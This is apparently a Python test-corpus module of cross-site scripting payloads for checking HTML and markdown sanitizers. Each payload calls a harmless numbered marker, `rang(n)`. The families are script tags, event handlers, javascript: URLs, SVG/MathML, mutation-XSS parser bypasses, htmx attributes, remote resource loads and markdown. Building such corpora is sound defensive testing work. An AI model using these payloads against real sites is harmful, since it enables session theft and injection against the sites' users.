"""What people try against pages that show what others wrote: each payload rings its number, `rang(17)`, if it runs.

By family, after the cheat sheets of OWASP and what is known of mutations: what one parser closes and another reopens.
§ stands for the ringing. A payload that swallows what follows it (a comment, a title, a text area left open) is closed,
so that one page can hold the whole corpus; left open it comes at the end, in `SWALLOWING`.
"""

from __future__ import annotations

from dataclasses import dataclass

SCRIPTS = (
    "<script>§</script>",
    "<ScRiPt>§</sCrIpT>",
    "<script\x0c>§</script\x0c>",
    "<script/x>§</script>",
    '<script type="text/javascript">§</script>',
    '<script type="module">§</script>',
    "<scr<script></script>ipt>§</script>",
    '<script src="data:text/javascript,§"></script>',
    '<svg><script href="data:text/javascript,§"></script></svg>',
    "<template><script>§</script></template>",
    '"><script>§</script>',
    "'-->\"></style></title></textarea><script>§</script>",
)
HANDLERS = (
    "<img src=x onerror=§>",
    '<img src=x onerror="&#114;ang(0),§">',
    '<img/src="x"/onerror=§//',
    "<img src=x oNeRrOr\n=\n§>",
    "<img src=/favicon.ico onload=§>",
    '"><img src=x onerror=§>',
    "'><img src=x onerror='§'>",
    "<<img src=x onerror=§>>",
    "<body onload=§>",
    "<body onpageshow=§>",
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§><option>s</select>",
    "<textarea autofocus onfocus=§>t</textarea>",
    "<a tabindex=1 autofocus onfocus=§>a</a>",
    "<details open ontoggle=§><summary>s</summary></details>",
    "<video><source onerror=§></video>",
    "<audio src=x onerror=§></audio>",
    "<marquee onstart=§>m</marquee>",
    "<p onmouseover=§>p</p>",
    "<p onclick=§ onpointerdown=§ contenteditable>p</p>",
    "<object data=x onerror=§></object>",
    "<div onfocusin=§ tabindex=0>d</div>",
)
ADDRESSES = (
    '<a href="javascript:§">a</a>',
    '<a href="JaVaScRiPt:§">a</a>',
    '<a href="java&#9;script:§">a</a>',
    '<a href="java&#10;script:§">a</a>',
    '<a href="&#1;javascript:§">a</a>',
    '<a href="&#106;avascript:§">a</a>',
    '<a href="javascript&colon;§">a</a>',
    '<a href="javascript://exemple.fr/%0A§">a</a>',
    '<a href=" \u2028javascript:§">a</a>',
    '<a href="data:text/html,<script>§</script>">a</a>',
    '<a href="vbscript:§">a</a>',
    '<a href="blob:https://exemple.fr/§">a</a>',
    '<iframe src="javascript:§"></iframe>',
    '<iframe srcdoc="<script>parent.§</script>"></iframe>',
    '<form action="javascript:§"><button>b</button></form>',
    '<form><button formaction="javascript:§">b</button></form>',
    '<map><area href="javascript:§" shape=default></map>',
    '<embed src="javascript:§">',
    '<object data="javascript:§"></object>',
)
FOREIGN = (
    "<svg onload=§></svg>",
    "<svg/onload=§//",
    "<svg><script>§</script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s></svg>",
    "<svg><set onbegin=§ attributename=x></svg>",
    '<svg><a xlink:href="javascript:§"><text y=9>s</text></a></svg>',
    '<svg><a href="javascript:§"><rect width=9 height=9 /></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:§" /><text y=9>s</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    "<svg><image href=x onerror=§></svg>",
    "<svg><title><img src=x onerror=§></title></svg>",
    "<svg><desc><img src=x onerror=§></desc></svg>",
    '<math href="javascript:§">m</math>',
    "<math><mtext><img src=x onerror=§></mtext></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>',
    '<math><maction actiontype="statusline" onclick=§>m</maction></math>',
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=§>"></noscript>',
    '<svg></p><style><a title="</style><img src=x onerror=§>"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;"></style></mglyph></table></mtext></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§></style></mglyph></form></mtext></math>",
    '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror=§>"></style></mtext></svg></table></mi></math>',
    '<xmp><p title="</xmp><img src=x onerror=§>"></xmp>',
    "<listing>&lt;img src=x onerror=§&gt;</listing>",
    "<style><style/><img src=x onerror=§></style>",
    '<title><a title="</title><img src=x onerror=§>"></title>',
    '<textarea><p id="</textarea><img src=x onerror=§>"></textarea>',
    '<iframe><p title="</iframe><img src=x onerror=§>"></iframe>',
    '<noembed><p title="</noembed><img src=x onerror=§>"></noembed>',
    "<select><template><img src=x onerror=§></template></select>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=§></table>",
    "<!--><img src=x onerror=§>-->",
    "<![CDATA[><img src=x onerror=§>]]>",
)
HTMX = (
    '<div hx-get="/rang/§" hx-trigger="load">h</div>',
    '<div data-hx-get="/rang/§" data-hx-trigger="load">h</div>',
    '<div hx-post="/rang/§" hx-trigger="load">h</div>',
    '<a hx-delete="/rang/§" hx-trigger="load">h</a>',
    '<div hx-on:click="§">h</div>',
    '<div hx-on--load="§">h</div>',
    '<div hx-get="/rang/§" hx-trigger="load[§]">h</div>',
    '<div hx-get="/rang/§" hx-vals="js:{a: §}" hx-trigger="load">h</div>',
    '<form hx-put="/rang/§" hx-trigger="load"><input name="csrf_token"></form>',
    '<div hx-boost="true"><a href="/rang/§">h</a></div>',
    '<div hx-ext="x" hx-sse="connect:/rang/§" hx-ws="connect:/rang/§">h</div>',
)
LOADING = (
    '<img src="https://exemple.fr/rang/§">',
    '<link rel=stylesheet href="https://exemple.fr/rang/§">',
    '<style>@import "https://exemple.fr/rang/§";</style>',
    '<p style="background:url(https://exemple.fr/rang/§)">p</p>',
    '<base href="https://exemple.fr/rang/§">',
    '<meta http-equiv=refresh content="0;url=/rang/§">',
    '<iframe src="https://exemple.fr/rang/§"></iframe>',
    '<video poster="https://exemple.fr/rang/§"></video>',
)
MARKDOWN = (
    "[a](javascript:§)",
    "[a](<java\tscript:§>)",
    "[a](JAVASCRIPT&colon;§)",
    "[a](data:text/html;base64,PHNjcmlwdD5yYW5nKDEpPC9zY3JpcHQ+)",
    "<javascript:§>",
    '![a](x"onerror="§)',
    "![a](javascript:§)",
    "`<script>§</script>`",
    "**<img src=x onerror=§>**",
    "| a |\n|---|\n| <img src=x onerror=§> |",
    "- [ ] <svg/onload=§>",
    "# <img src=x onerror=§>",
    "{{§}} ${§} #{§} <%= § %>",
)
SWALLOWING = (
    "<plaintext><img src=x onerror=§>",
    "<!-- <img src=x onerror=§>",
    "<textarea><img src=x onerror=§>",
    "```html\n<script>§</script>",
)
FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "foreign": FOREIGN,
    "mutations": MUTATIONS,
    "htmx": HTMX,
    "loading": LOADING,
    "markdown": MARKDOWN,
    "swallowing": SWALLOWING,
}


@dataclass(frozen=True)
class Payload:
    """One attempt; `number` is what it rings."""

    number: int
    family: str
    text: str


def corpus() -> list[Payload]:
    """All of them, numbered from 1, those that swallow what follows at the end."""
    flat = [(family, one) for family, every in FAMILIES.items() for one in every]
    return [
        Payload(number, family, one.replace("/rang/§", f"/rang/{number}").replace("§", f"rang({number})"))
        for number, (family, one) in enumerate(flat, 1)
    ]
